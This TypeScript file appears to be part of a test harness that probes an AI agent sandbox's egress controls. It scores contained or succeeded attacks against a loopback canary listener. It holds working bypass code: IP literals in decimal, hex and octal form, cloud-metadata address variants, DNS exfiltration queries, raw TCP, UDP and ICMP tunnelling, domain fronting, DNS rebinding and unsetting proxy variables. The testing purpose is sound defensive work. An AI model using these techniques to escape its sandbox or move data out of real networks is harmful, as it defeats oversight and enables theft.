/**
 * Egress bypass: every way out that is not the agent's allowlist. The
 * attacker listener (host loopback, forbidden) is the canary: an attack
 * succeeded when its marker (or, for the metadata service, a connection
 * attempt with no policy refusal) got out. IP literals in every notation,
 * IPv6 and IPv6-embedded forms of 169.254.169.254, DNS exfiltration (the
 * sandbox's resolvers, the attacker's resolver, names the egress proxy is
 * made to look up), raw TCP, UDP and ICMP, a forbidden port of an allowed
 * host, SNI and Host mismatch (domain fronting), DNS rebinding, a redirect
 * from an allowed host, and the proxy variables unset.
 */
import { brief, curlLine, judge, py, q, settle } from './util.js';
import { contained, couldNotJudge, succeeded, type Attack, type AttackContext } from '../types.js';

/** One curl of the attacker through whatever path the sandbox has, judged by the marker. */
function literalAttack(id: string, title: string, hostFor: (port: number) => string): Attack {
  return {
    id, category: 'egress', title,
    async run(ctx) {
      const mark = ctx.target.canaries.mark();
      const url = `http://${hostFor(ctx.target.addresses.attackerPort)}/${ctx.marker}`;
      // As the agent would (NO_PROXY sends loopback literals direct), then forced through the proxy.
      const r = await ctx.target.sh(`${curlLine(`-g '${url}'`)}; ${curlLine(`--noproxy '' -g '${url}-proxied'`)}`);
      await settle();
      return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, evidence: [`GET ${url}`, brief(r)] });
    },
  };
}

const literals: Attack[] = [
  literalAttack('egress.ip-dotted', 'attacker by IPv4 literal 127.0.0.1', (p) => `127.0.0.1:${p}`),
  literalAttack('egress.ip-decimal', 'attacker by decimal IP 2130706433', (p) => `2130706433:${p}`),
  literalAttack('egress.ip-hex', 'attacker by hex IP 0x7f000001', (p) => `0x7f000001:${p}`),
  literalAttack('egress.ip-octal', 'attacker by octal IP 0177.0.0.1', (p) => `0177.0.0.1:${p}`),
  literalAttack('egress.ip-short', 'attacker by short IP 127.1', (p) => `127.1:${p}`),
  literalAttack('egress.ipv6-loopback', 'attacker by IPv6 literal [::1]', (p) => `[::1]:${p}`),
  literalAttack('egress.ipv6-mapped', 'attacker by IPv4-mapped IPv6 [::ffff:127.0.0.1]', (p) => `[::ffff:127.0.0.1]:${p}`),
];

const METADATA_FORMS = ['169.254.169.254', '2852039166', '0xa9fea9fe', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::1]', '[::169.254.169.254]'];

/**
 * Through a proxy the request is sent (the proxy refuses before it dials). Without one, nothing is
 * sent (this run keeps its packets on loopback): a UDP connect() only asks the kernel for a route.
 */
const metadata: Attack = {
  id: 'egress.metadata-ipv6', category: 'egress', title: 'cloud metadata 169.254.169.254 in IPv4 and IPv6-embedded forms', timeoutMs: 90_000,
  async run(ctx) {
    const curls = METADATA_FORMS.map((f) => `echo "${f} $(${curlLine(`-g 'http://${f}/latest/meta-data/'`, 3)})"`).join('; ');
    const r = await ctx.target.sh(`if [ -n "$HTTP_PROXY$http_proxy" ]; then ${curls}; else echo "no proxy: nothing sent"; fi; python3 -c "$RT_ROUTE"`, {
      timeoutMs: 60_000,
      env: { RT_ROUTE: [
        'import socket',
        'for fam, addr in ((socket.AF_INET, "169.254.169.254"), (socket.AF_INET6, "::ffff:169.254.169.254"), (socket.AF_INET6, "64:ff9b::a9fe:a9fe")):',
        '    try:',
        '        s = socket.socket(fam, socket.SOCK_DGRAM); s.connect((addr, 80)); print("route", addr, "via", s.getsockname()[0])',
        '    except OSError as e: print("noroute", addr, e)',
      ].join('\n') },
    });
    const rows = r.stdout.trim().split('\n');
    // A refusal carries cordon's reason; anything else (connected, refused by the network, timed out) means the request left.
    const left = rows.filter((l) => /reason= exit=(0|7|28|52|56)\b/.test(l) && !/status=403/.test(l));
    const routes = rows.filter((l) => l.startsWith('route '));
    const proxied = rows.filter((l) => /status=/.test(l));
    if (!rows.some((l) => /^(no)?route /.test(l))) return couldNotJudge('the route probe did not report', brief(r));
    if (left.length > 0) return succeeded(`${left.length} form(s) left for the metadata address with no policy refusal`, ...left.slice(0, 4));
    if (proxied.length === 0 && routes.length > 0) {
      return succeeded('no proxy in the way and a direct route to the metadata address (not sent: this run keeps to loopback)', ...routes);
    }
    return contained(`${proxied.length} form(s) refused by the proxy with a reason; no direct route`, ...rows.slice(0, 12));
  },
};

const dnsExfil: Attack = {
  id: 'egress.dns-exfiltration', category: 'egress', title: 'DNS exfiltration: resolvers, the attacker\'s resolver, names the proxy must look up', timeoutMs: 60_000,
  async run(ctx) {
    const a = ctx.target.addresses;
    const name = `${ctx.marker}.${a.attackerHost}`;
    const mark = ctx.target.canaries.mark();
    const r = await py(ctx, [
      'import socket, struct, subprocess',
      `name = "${name}"`,
      'q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0\\0\\1\\0\\1"',
      'servers = [("127.0.0.1", ' + String(a.udpPort) + ')]',
      'try:',
      '    servers += [(l.split()[1], 53) for l in open("/etc/resolv.conf") if l.startswith("nameserver")]',
      'except OSError: pass',
      'out = []',
      'for s in servers:',
      '    try:',
      '        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(q, s); out.append("%s:%d sent" % s)',
      '    except OSError as e: out.append("%s:%d %s" % (s[0], s[1], e))',
      'try:',
      '    out.append("getaddrinfo " + str(socket.getaddrinfo(name, 80)[0][4]))',
      'except OSError as e: out.append("getaddrinfo %s" % e)',
      `out.append("via proxy: " + subprocess.run(["curl", "-sS", "-m", "6", "-o", "/dev/null", "-w", "%{http_code}", "http://" + name + "/", "https://" + name + "/"], capture_output=True, text=True).stdout)`,
      'print("; ".join(out))',
    ].join('\n'), { timeoutMs: 45_000 });
    await settle(500);
    return judge(ctx, { needles: [ctx.marker], mark, evidence: [brief(r)] });
  },
};

function rawAttack(id: string, title: string, script: (ctx: AttackContext) => string, user: 'root' | 'agent' = 'agent'): Attack {
  return {
    id, category: 'egress', title,
    async run(ctx) {
      const mark = ctx.target.canaries.mark();
      const r = await py(ctx, script(ctx), { user });
      await settle();
      return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, evidence: [brief(r)] });
    },
  };
}

const rawTcp = rawAttack('egress.raw-tcp', 'raw TCP to the attacker, around the proxy', (ctx) => [
  'import socket',
  'out = []',
  `for h in ("${ctx.target.addresses.hostAddress}", "127.0.0.1"):`,
  '    try:',
  `        s = socket.create_connection((h, ${ctx.target.addresses.attackerPort}), 3); s.sendall(b"${ctx.marker}"); s.close(); out.append(h + " sent")`,
  '    except OSError as e: out.append("%s %s" % (h, e))',
  'print("; ".join(out))',
].join('\n'));

const rawUdp = rawAttack('egress.raw-udp', 'raw UDP datagrams to the attacker', (ctx) => [
  'import socket',
  'out = []',
  `for h in ("127.0.0.1", "${ctx.target.addresses.hostAddress}"):`,
  '    try:',
  `        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${ctx.marker}", (h, ${ctx.target.addresses.udpPort})); out.append(h + " sent")`,
  '    except OSError as e: out.append("%s %s" % (h, e))',
  'print("; ".join(out))',
].join('\n'));

const icmp: Attack = {
  id: 'egress.icmp', category: 'egress', title: 'ICMP echo with a payload to a host address (ICMP tunnelling)',
  async run(ctx) {
    const dest = ctx.target.addresses.hostAddress;
    const r = await py(ctx, [
      'import socket, struct, time',
      'def csum(b):',
      '    b += b"\\0" * (len(b) % 2); s = sum(struct.unpack("!%dH" % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return ~s & 0xffff',
      `payload = b"${ctx.marker}"`,
      'pkt = struct.pack("!BBHHH", 8, 0, 0, 0x4242, 1) + payload',
      'pkt = pkt[:2] + struct.pack("!H", csum(pkt)) + pkt[4:]',
      'try:',
      '    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(3)',
      `    s.sendto(pkt, ("${dest}", 0))`,
      '    while True:',
      '        data, src = s.recvfrom(2048)',
      `        if src[0] == "${dest}" and data[20] == 0 and payload in data: print("echo reply from", src[0]); break`,
      'except OSError as e: print("icmp", e)',
    ].join('\n'), { user: 'root' });
    return /echo reply from/.test(r.stdout)
      ? succeeded(`an ICMP echo carrying the marker reached ${dest} and came back`, brief(r))
      : contained(`no ICMP echo reached ${dest}`, brief(r));
  },
};

const otherPort: Attack = {
  id: 'egress.allowed-host-other-port', category: 'egress', title: 'CONNECT to a port of an allowed host that is not allowed',
  async run(ctx) {
    const a = ctx.target.addresses;
    const mark = ctx.target.canaries.mark();
    const r = await ctx.target.sh(`${curlLine(`-k https://${a.apiHost}:${a.attackerPort}/${ctx.marker}`)}; ${curlLine(`http://${a.apiHost}:${a.attackerPort}/${ctx.marker}`)}`);
    await settle();
    return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, evidence: [brief(r)] });
  },
};

/** A TLS request through the proxy when the sandbox has one, else direct: CONNECT host, SNI and Host chosen apart. */
function frontingScript(connectHost: string, port: number, sni: string, hostHeader: string, marker: string): string {
  return [
    'import os, socket, ssl',
    `connect, port, sni, host = "${connectHost}", ${port}, "${sni}", "${hostHeader}"`,
    'proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")',
    'try:',
    '    if proxy:',
    '        ph, pp = proxy.split("://")[-1].rstrip("/").rsplit(":", 1)',
    '        s = socket.create_connection((ph, int(pp)), 5)',
    '        s.sendall(("CONNECT %s:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n" % (connect, port, connect, port)).encode())',
    '        print("proxy:", s.recv(4096).split(b"\\r\\n")[0].decode())',
    '    else:',
    '        s = socket.create_connection((connect, port), 5)',
    '    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE',
    '    t = c.wrap_socket(s, server_hostname=sni)',
    `    t.sendall(("GET /${marker} HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % host).encode())`,
    '    print("answer:", t.recv(4096).split(b"\\r\\n")[0].decode())',
    'except Exception as e: print("error:", type(e).__name__, e)',
  ].join('\n');
}

const frontingSni: Attack = {
  id: 'egress.fronting-sni', category: 'egress', title: 'domain fronting: CONNECT to the allowed host, TLS SNI names the attacker',
  async run(ctx) {
    const a = ctx.target.addresses;
    const r = await py(ctx, frontingScript(a.apiHost, a.okPort, a.attackerHost, a.attackerHost, ctx.marker));
    await settle();
    return judge(ctx, { needles: [ctx.marker], evidence: [brief(r)] });
  },
};

const frontingHost: Attack = {
  id: 'egress.fronting-host', category: 'egress', title: 'domain fronting: allowed SNI, inner Host header names the attacker',
  async run(ctx) {
    const a = ctx.target.addresses;
    const r = await py(ctx, frontingScript(a.apiHost, a.okPort, a.apiHost, `${a.attackerHost}:${a.attackerPort}`, ctx.marker));
    await settle();
    return judge(ctx, { needles: [ctx.marker], evidence: [brief(r)] });
  },
};

const rebinding: Attack = {
  id: 'egress.dns-rebinding', category: 'egress', title: 'DNS rebinding: an allowed name whose answer flips to loopback',
  async run(ctx) {
    const a = ctx.target.addresses;
    const mark = ctx.target.canaries.mark();
    const tries = [1, 2, 3].map((i) => curlLine(`-k http://${a.rebindHost}:${a.attackerPort}/${ctx.marker}-${i}`, 5)).join('; ');
    const r = await ctx.target.sh(`${tries}; ${curlLine(`-k https://${a.rebindHost}:${a.attackerPort}/${ctx.marker}-4`, 5)}`, { timeoutMs: 45_000 });
    await settle();
    return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, evidence: [brief(r)] });
  },
};

const redirect: Attack = {
  id: 'egress.redirect', category: 'egress', title: 'a redirect from an allowed host to the attacker (curl -L)',
  async run(ctx) {
    const a = ctx.target.addresses;
    const mark = ctx.target.canaries.mark();
    const to = encodeURIComponent(`http://${a.attackerHost}:${a.attackerPort}/${ctx.marker}`);
    const r = await ctx.target.sh(curlLine(`-L https://${a.apiHost}:${a.okPort}/redirect?to=${to}`));
    await settle();
    return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, onlyAttacker: true, evidence: [brief(r)] });
  },
};

const proxyUnset: Attack = {
  id: 'egress.proxy-env-unset', category: 'egress', title: 'proxy variables unset: connect directly by name',
  async run(ctx) {
    const a = ctx.target.addresses;
    const mark = ctx.target.canaries.mark();
    const url = `http://${a.attackerHost}:${a.attackerPort}/${ctx.marker}`;
    const r = await ctx.target.sh(`env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u all_proxy sh -c ${q(curlLine(`--noproxy '*' ${url}`))}`
      + `; python3 -c "import urllib.request as u; print(u.build_opener(u.ProxyHandler({})).open('${url}-py', timeout=5).status)" 2>&1 | tail -n 1`);
    await settle();
    return judge(ctx, { needles: [ctx.marker], mark, anyAttackerByte: true, evidence: [brief(r)] });
  },
};

export const egressAttacks: Attack[] = [...literals, metadata, dnsExfil, rawTcp, rawUdp, icmp, otherPort, frontingSni, frontingHost, rebinding, redirect, proxyUnset];
